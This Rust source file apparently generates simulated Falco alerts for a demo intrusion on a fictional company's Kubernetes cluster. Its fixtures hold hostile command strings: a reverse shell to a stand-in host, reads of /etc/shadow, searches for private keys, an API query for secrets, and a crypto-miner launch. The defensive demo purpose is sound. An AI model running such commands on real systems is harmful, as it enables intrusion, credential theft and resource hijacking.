//! What Falco sees of the broken pod: the way in, and the miner on the node.

use super::Teller;
use crate::demo::Day;
use crate::demo::company::{NODES, STOREFRONT};
use crate::demo::falco::{
    CONTACT_API, Container, FIND_KEYS, MINER_PORT, NEW_BINARY, PRIVILEGED, Process, REDIRECT, Rule,
    SENSITIVE_FILE, SHELL_UNTRUSTED, TERMINAL_SHELL,
};

/// The pod that the intruder makes for himself.
pub const NEW_POD: &str = "node-health-7c4f9";

/// The storefront's container.
fn storefront() -> Container<'static> {
    Container {
        node: NODES[STOREFRONT.node].name,
        id: "5d1b9f7e3a62",
        name: "storefront",
        image: "registry.aldertree.example/storefront",
        tag: "4.18.2",
        namespace: STOREFRONT.namespace,
        pod: STOREFRONT.pod,
    }
}

/// The intruder's privileged container.
fn escaped() -> Container<'static> {
    Container {
        id: "c83e0a44f1d7",
        name: "health",
        image: "docker.io/library/alpine",
        tag: "3.20",
        pod: NEW_POD,
        ..storefront()
    }
}

const fn process(
    name: &'static str,
    path: &'static str,
    parent: &'static str,
    command: &'static str,
    event: &'static str,
) -> Process<'static> {
    Process {
        name,
        path,
        parent,
        command,
        terminal: 0,
        event,
    }
}

fn alert(
    day: &mut Day,
    teller: &mut Teller,
    seconds: i64,
    (rule, container, process): (&Rule, Container, Process),
    fields: &[(&str, &str, &str)],
    what: &str,
) {
    let time = teller.after(seconds);
    let id = day.alerts.alert(time, rule, &container, &process, fields);
    teller.note(what, id);
}

/// Code runs in the storefront's container and calls home.
pub fn break_in(day: &mut Day, teller: &mut Teller) {
    let pod = storefront();
    let home = r#""10.20.3.112:48122->203.0.113.77:4444""#;
    let shell = process(
        "sh",
        "/bin/dash",
        "node",
        "sh -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1",
        "execve",
    );
    let fields = [
        ("proc.pcmdline", "pcmdline", r#""node /app/server.js""#),
        ("evt.arg.flags", "exe_flags", r#""EXE_LOWER_LAYER""#),
    ];
    alert(
        day,
        teller,
        0,
        (&SHELL_UNTRUSTED, pod, shell),
        &fields,
        "the storefront's server spawns a shell",
    );
    let bash = process("bash", "/bin/bash", "sh", "bash -i", "dup2");
    let fields = [
        ("fd.name", "connection", home),
        ("fd.sip", "fd.sip", r#""203.0.113.77""#),
        ("fd.lport", "lport", "48122"),
        ("fd.rport", "rport", "4444"),
        ("fd.type", "fd_type", r#""ipv4""#),
        ("fd.l4proto", "fd_proto", r#""tcp""#),
    ];
    alert(
        day,
        teller,
        1,
        (&REDIRECT, pod, bash),
        &fields,
        "the shell talks to 203.0.113.77",
    );
    let terminal = Process {
        terminal: 34_817,
        event: "execve",
        ..process("bash", "/bin/bash", "python3", "bash", "execve")
    };
    let fields = [("evt.arg.flags", "exe_flags", r#""EXE_LOWER_LAYER""#)];
    alert(
        day,
        teller,
        38,
        (&TERMINAL_SHELL, pod, terminal),
        &fields,
        "it gets a terminal",
    );
    let cat = Process {
        terminal: 34_817,
        ..process("cat", "/bin/cat", "bash", "cat /etc/shadow", "openat")
    };
    let fields = [
        ("fd.name", "file", r#""/etc/shadow""#),
        ("proc.aname[2]", "gparent", r#""python3""#),
        ("proc.aname[3]", "ggparent", r#""bash""#),
        ("proc.aname[4]", "gggparent", r#""sh""#),
    ];
    alert(
        day,
        teller,
        17,
        (&SENSITIVE_FILE, pod, cat),
        &fields,
        "/etc/shadow is read",
    );
    let find = Process {
        terminal: 34_817,
        ..process(
            "find",
            "/usr/bin/find",
            "bash",
            "find / -name id_rsa -o -name *.pem",
            "execve",
        )
    };
    alert(
        day,
        teller,
        29,
        (&FIND_KEYS, pod, find),
        &[],
        "private keys are searched",
    );
    let curl = Process {
        terminal: 34_817,
        ..process(
            "curl",
            "/usr/bin/curl",
            "bash",
            "curl -sk https://172.20.0.1/api/v1/namespaces/shop/secrets -H Authorization: Bearer",
            "connect",
        )
    };
    let fields = [
        (
            "fd.name",
            "connection",
            r#""10.20.3.112:48410->172.20.0.1:443""#,
        ),
        ("fd.rport", "rport", "443"),
    ];
    alert(
        day,
        teller,
        44,
        (&CONTACT_API, pod, curl),
        &fields,
        "the API server is asked from inside the pod",
    );
}

/// On the node: a miner.
pub fn mine(day: &mut Day, teller: &mut Teller) {
    let pod = escaped();
    let sleep = process(
        "sleep",
        "/bin/busybox",
        "containerd-shim",
        "sleep infinity",
        "container",
    );
    // The container started when the pod was created, before the exec; Falco's event came late.
    alert(
        day,
        teller,
        1,
        (&PRIVILEGED, pod, sleep),
        &[],
        "a privileged container runs",
    );
    let bash = Process {
        terminal: 34_818,
        ..process("bash", "/host/bin/bash", "chroot", "bash", "execve")
    };
    alert(
        day,
        teller,
        1,
        (&TERMINAL_SHELL, pod, bash),
        &[],
        "it has a shell with a terminal",
    );
    let miner = process(
        "kworkerds",
        "/host/var/tmp/kworkerds",
        "bash",
        "kworkerds -o 192.0.2.77:3333 --donate-level 1 -B",
        "execve",
    );
    let fields = [
        ("proc.exe", "proc_exe", r#""/var/tmp/kworkerds""#),
        ("proc.sname", "proc_sname", r#""bash""#),
        ("proc.cwd", "proc_cwd", r#""/var/tmp/""#),
        (
            "proc.hash.sha256",
            "proc_hash_sha256",
            r#""b5f2c6a1d84e90377a1cde52f60b943ac7e8d0149f3b6257ee01a9c4d87f2b36""#,
        ),
    ];
    alert(
        day,
        teller,
        96,
        (&NEW_BINARY, pod, miner),
        &fields,
        "a dropped binary is started",
    );
    let fields = [
        (
            "fd.name",
            "connection",
            r#""10.20.3.47:51844->192.0.2.77:3333""#,
        ),
        ("fd.rip", "ip", r#""192.0.2.77""#),
        ("fd.rport", "rport", "3333"),
        ("fd.l4proto", "fd_proto", r#""tcp""#),
    ];
    let connect = Process {
        event: "connect",
        ..miner
    };
    alert(
        day,
        teller,
        3,
        (&MINER_PORT, pod, connect),
        &fields,
        "it connects to a mining pool",
    );
}
